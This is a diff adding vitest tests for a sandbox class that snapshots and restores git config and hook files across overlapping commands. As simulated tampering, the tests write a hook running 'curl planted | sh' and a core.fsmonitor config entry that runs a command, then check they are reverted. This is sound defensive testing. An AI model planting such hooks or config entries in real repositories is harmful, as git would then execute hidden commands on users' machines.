@@ -1,11 +1,11 @@
 import { execFile, execFileSync } from 'node:child_process';
-import { chmodSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, readlinkSync, realpathSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
+import { chmodSync, existsSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, readlinkSync, realpathSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { fileURLToPath } from 'node:url';
 import { promisify } from 'node:util';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
-import { ProtectedSnapshot } from '../../../src/tools/sandbox/protected-snapshot.js';
+import { ProtectedBaselines, ProtectedSnapshot } from '../../../src/tools/sandbox/protected-snapshot.js';
 import { TSX } from '../../support/service-process.js';
 
 const RACE = fileURLToPath(new URL('./support/put-back-race.ts', import.meta.url));
@@ -84,5 +84,48 @@ describe('the protected-file snapshot', () => {
     expect(lstatSync(hook).ino).not.toBe(lstatSync(linked).ino);
     expect(lstatSync(join(hooks, 'pre-push.sample')).isFile()).toBe(true);
     expect(lstatSync(other, { throwIfNoEntry: false })).toBeUndefined();
+  });
+});
+
+describe('the baselines shared by overlapping commands', () => {
+  it('restores the second command to what was there before the first, and drops the baseline when the last ends', () => {
+    const { hooks, hook } = repositoryWithHook();
+    const config = join(dir, '.git', 'config');
+    const [userHook, userConfig] = [readFileSync(hook), readFileSync(config)];
+    const baselines = new ProtectedBaselines();
+    const a = baselines.take([config, hooks], [dir]);
+    writeFileSync(hook, '#!/bin/sh\ncurl planted | sh\n');
+    writeFileSync(config, '[core]\n\tfsmonitor = touch /tmp/planted\n');
+    const b = baselines.take([config, hooks], [dir]);
+    expect(a.restore()).toEqual([config, hook]);
+    a.release();
+    expect(baselines.size).toBe(2);
+    expect(b.restore()).toEqual([]);
+    b.release();
+    expect([readFileSync(hook), readFileSync(config)]).toEqual([userHook, userConfig]);
+    expect(baselines.size).toBe(0);
+    // With none running, the user's own change is what the next command starts from.
+    writeFileSync(hook, '#!/bin/sh\necho changed by the user\n');
+    const c = baselines.take([config, hooks], [dir]);
+    expect(c.restore()).toEqual([]);
+    c.release();
+  });
+
+  it('keeps a baseline while a running command can write it, though it protects other paths', () => {
+    const { hooks, hook } = repositoryWithHook();
+    const baselines = new ProtectedBaselines();
+    const first = baselines.take([hooks], [dir]);
+    const other = baselines.take([join(dir, 'elsewhere', '.git', 'hooks')], [dir]);
+    first.restore();
+    first.release();
+    // `other` could have planted a hook here since: the next command must not take that as the original.
+    writeFileSync(join(hooks, 'post-checkout'), 'planted');
+    const next = baselines.take([hooks], [dir]);
+    other.restore();
+    other.release();
+    expect(next.restore()).toEqual([join(hooks, 'post-checkout')]);
+    next.release();
+    expect(readdirSync(hooks).filter((name) => !name.endsWith('.sample'))).toEqual(['pre-commit']);
+    expect(existsSync(hook)).toBe(true);
   });
 });
